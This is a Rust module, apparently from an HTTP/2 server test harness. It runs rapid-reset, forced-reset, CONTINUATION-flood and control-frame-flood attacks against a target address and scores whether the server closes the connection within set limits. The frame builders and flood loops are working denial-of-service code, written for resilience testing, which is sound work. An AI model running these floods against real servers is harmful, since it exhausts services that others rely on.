//! S1 to S4: frames of HTTP/2 that cost a server much and their sender nothing.

use std::time::{Duration, Instant};

use super::http2::{Connection, END_STREAM, End, frame, kind, open};
use super::{Attack, Scene, slow};

/// Frames of one round, after which the attacker waits until they were read.
const ROUND: u32 = 50;
/// Rounds until an attacker gives up.
const ROUNDS: u32 = 400;
/// Streams reset beyond those that were answered, before the server must say goodbye.
const RESETS: u32 = 1000;
/// Control frames a second, likewise.
const CONTROL_FRAMES: u32 = 100;
/// What a call in progress may be at once; twice that many may begin on a connection.
const CALLS_IN_FLIGHT: i64 = 1024;

/// What is done again and again, and the frames of the time of this number.
type Primitive = (&'static str, fn(u32) -> Vec<u8>);

/// S1: streams that are opened and reset at once.
pub(super) fn rapid_reset(scene: &mut Scene<'_>) -> Result<(), String> {
    let before = scene.started()?;
    let mut round = |number| {
        let stream = number * 2 + 1;
        [open(stream), frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    let bound = |_elapsed| RESETS;
    let connections = scene.flood("streams opened and reset", &bound, &mut round)?;
    let per_connection = (scene.started()? - before) / connections.max(1);
    let text = format!("{per_connection} calls begun a connection, at most {CALLS_IN_FLIGHT} x 2");
    scene.judge("calls begun", per_connection <= CALLS_IN_FLIGHT * 2, text);
    Ok(())
}

/// S2: streams that the server has to reset.
pub(super) fn made_you_reset(scene: &mut Scene<'_>) -> Result<(), String> {
    let bound = |_elapsed| RESETS;
    let primitives: [Primitive; 6] = [
        ("windows widened by nothing", |id| frame(kind::WINDOW_UPDATE, 0, id, &[0; 4])),
        ("windows widened beyond all bounds", |id| {
            frame(kind::WINDOW_UPDATE, 0, id, &0x7fff_ffff_u32.to_be_bytes())
        }),
        ("data after the end", |id| {
            [frame(kind::DATA, END_STREAM, id, b""), frame(kind::DATA, 0, id, b"x")].concat()
        }),
        ("a second head after the end", |id| {
            [frame(kind::DATA, END_STREAM, id, b""), open(id)].concat()
        }),
        ("priorities of a wrong size", |id| frame(kind::PRIORITY, 0, id, &[0; 4])),
        ("streams that depend on themselves", |id| {
            frame(kind::PRIORITY, 0, id, &[id.to_be_bytes().as_slice(), &[0]].concat())
        }),
    ];
    for (name, primitive) in primitives {
        let mut round = |number| {
            let stream = number * 2 + 1;
            [open(stream), primitive(stream)].concat()
        };
        scene.share(primitives.len());
        scene.flood(name, &bound, &mut round)?;
    }
    Ok(())
}

/// S3: heads without end.
pub(super) fn continuations(scene: &mut Scene<'_>) -> Result<(), String> {
    for (name, len, most) in
        [("empty pieces of a head", 0, 16), ("pieces of 16 KiB of a head", 16_384, 16)]
    {
        let piece = vec![0; len];
        let mut round = |number| {
            let kind = if number == 0 { kind::HEADERS } else { kind::CONTINUATION };
            frame(kind, 0, 1, &piece)
        };
        scene.share(2);
        scene.flood_by(name, 1, &|_elapsed| most, &mut round)?;
    }
    Ok(())
}

/// S4: frames that no call explains.
pub(super) fn control_frames(scene: &mut Scene<'_>) -> Result<(), String> {
    let bound = |elapsed: Duration| {
        let secs = u32::try_from(elapsed.as_secs()).unwrap_or(u32::MAX);
        CONTROL_FRAMES.saturating_mul(secs.saturating_add(1))
    };
    let kinds: [Primitive; 4] = [
        ("pings", |_| frame(kind::PING, 0, 0, &[0; 8])),
        ("settings", |_| frame(kind::SETTINGS, 0, 0, &[])),
        ("priorities", |_| frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 1])),
        ("empty data", |number| {
            let open = if number == 0 { open(1) } else { Vec::new() };
            [open, frame(kind::DATA, 0, 1, &[])].concat()
        }),
    ];
    for (name, mut round) in kinds {
        scene.share(kinds.len());
        scene.flood(name, &bound, &mut round)?;
    }
    slow::unread(scene)
}

impl Scene<'_> {
    /// Floods connection after connection while there is time; how many there were.
    pub(super) fn flood(
        &mut self,
        name: &str,
        bound: &dyn Fn(Duration) -> u32,
        round: &mut dyn FnMut(u32) -> Vec<u8>,
    ) -> Result<i64, String> {
        self.flood_by(name, ROUND, bound, round)
    }

    fn flood_by(
        &mut self,
        name: &str,
        size: u32,
        bound: &dyn Fn(Duration) -> u32,
        round: &mut dyn FnMut(u32) -> Vec<u8>,
    ) -> Result<i64, String> {
        let (begin, mut connections, mut worst) = (Instant::now(), 0, None::<Attack>);
        while connections == 0 || begin.elapsed() < self.time {
            let attack = attack(&self.target.address, size, bound, round)?;
            connections += 1;
            if worst.is_none_or(|worst| attack.excess() > worst.excess()) {
                worst = Some(attack);
            }
        }
        if let Some(worst) = worst {
            let fine = worst.sent <= worst.limit.saturating_add(size) && worst.end.is_some();
            let seen = worst.end.map_or_else(|| "no goodbye".to_owned(), End::text);
            let Attack { sent, limit, .. } = worst;
            let text = format!("{seen} after {sent} (limit {limit}), {connections} connections");
            self.judge(name, fine, text);
        }
        Ok(connections)
    }
}

/// One connection of an attack, until the server ends it.
fn attack(
    address: &str,
    size: u32,
    bound: &dyn Fn(Duration) -> u32,
    round: &mut dyn FnMut(u32) -> Vec<u8>,
) -> Result<Attack, String> {
    let mut connection = Connection::open(address)?;
    let (begin, mut sent, mut end) = (Instant::now(), 0, None);
    while end.is_none() && sent < size.saturating_mul(ROUNDS) {
        let bytes: Vec<u8> = (sent..sent + size).flat_map(&mut *round).collect();
        sent += size;
        connection.send(&bytes);
        // A head that is not at its end forbids to ask; the server has to see to it by itself.
        if size > 1 {
            end = connection.sync()?;
        } else if sent >= bound(begin.elapsed()) {
            end = Some(connection.end()?);
        }
    }
    Ok(Attack { sent, limit: bound(begin.elapsed()), end })
}
